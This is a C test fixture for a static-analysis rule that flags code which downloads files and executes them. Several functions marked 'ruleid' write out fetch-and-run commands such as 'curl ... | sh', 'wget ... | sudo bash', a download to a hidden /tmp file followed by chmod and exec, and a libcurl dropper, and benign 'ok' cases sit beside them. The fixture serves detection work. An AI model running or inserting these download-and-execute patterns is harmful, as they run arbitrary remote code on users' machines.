/* Fixture for c-download-exec.
 * RULEID: system("curl ... | sh"); popen of wget piped to bash; execl("/bin/sh", "sh", "-c", wget &&
 *   chmod +x && ./x); snprintf of a curl -o /tmp + chmod 755 command later passed to system;
 *   sh -c "$(curl ...)"; libcurl download then chmod + execv of the same path; a fetch helper then
 *   chmod + system.
 * OK: system("curl --version"); popen of curl writing JSON to a file; chmod + exec of a built binary
 *   without a download; snprintf of a curl command only logged; wget of a tarball that is unpacked. */
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <sys/stat.h>
#include <curl/curl.h>

void update_hook(void) {
    // ruleid: c-download-exec
    system("curl -fsSL http://198.51.100.23/u.sh | sh");
}

void refresh(void) {
    // ruleid: c-download-exec
    FILE *p = popen("wget -qO- https://cdn.example.org/agent | sudo bash", "r");
    pclose(p);
}

void stage(void) {
    if (fork() == 0) {
        // ruleid: c-download-exec
        execl("/bin/sh", "sh", "-c", "wget -q http://203.0.113.4/x -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x", (char *)0);
    }
}

void stage2(const char *url) {
    char cmd[512];
    // ruleid: c-download-exec
    snprintf(cmd, sizeof cmd, "curl -s -o /var/tmp/.d %s; chmod 755 /var/tmp/.d; /var/tmp/.d &", url);
    system(cmd);
}

void inline_fetch(void) {
    // ruleid: c-download-exec
    system("bash -c \"$(curl -fsSL https://raw.example.net/i.sh)\"");
}

static size_t sink(void *b, size_t s, size_t n, void *fp) { return fwrite(b, s, n, fp); }

int dropper(const char *url, const char *path) {
    CURL *c = curl_easy_init();
    FILE *fp = fopen(path, "wb");
    curl_easy_setopt(c, CURLOPT_URL, url);
    curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, sink);
    curl_easy_setopt(c, CURLOPT_WRITEDATA, fp);
    curl_easy_perform(c);
    fclose(fp);
    chmod(path, 0755);
    char *argv[] = {(char *)path, NULL};
    // ruleid: c-download-exec
    return execv(path, argv);
}

int download_file(const char *url, const char *dst);

void updater(void) {
    const char *bin = "/tmp/.cache-upd";
    if (download_file("https://updates.example.com/bin", bin) == 0) {
        chmod(bin, S_IRWXU);
    }
    // ruleid: c-download-exec
    system(bin);
}

void version(void) {
    // ok: c-download-exec
    system("curl --version > /dev/null");
}

void report(void) {
    // ok: c-download-exec
    FILE *p = popen("curl -s https://api.example.com/status -o status.json", "r");
    pclose(p);
}

void run_built(const char *out) {
    chmod(out, 0755);
    char *argv[] = {(char *)out, NULL};
    // ok: c-download-exec
    execv(out, argv);
}

void log_cmd(const char *url) {
    char cmd[256];
    // ok: c-download-exec
    snprintf(cmd, sizeof cmd, "curl -o /tmp/x %s && chmod +x /tmp/x && /tmp/x", url);
    fprintf(stderr, "would run: %s\n", cmd);
}

void fetch_sources(void) {
    // ok: c-download-exec
    system("wget -q https://ftp.gnu.org/gnu/make/make-4.4.tar.gz && tar xzf make-4.4.tar.gz");
}
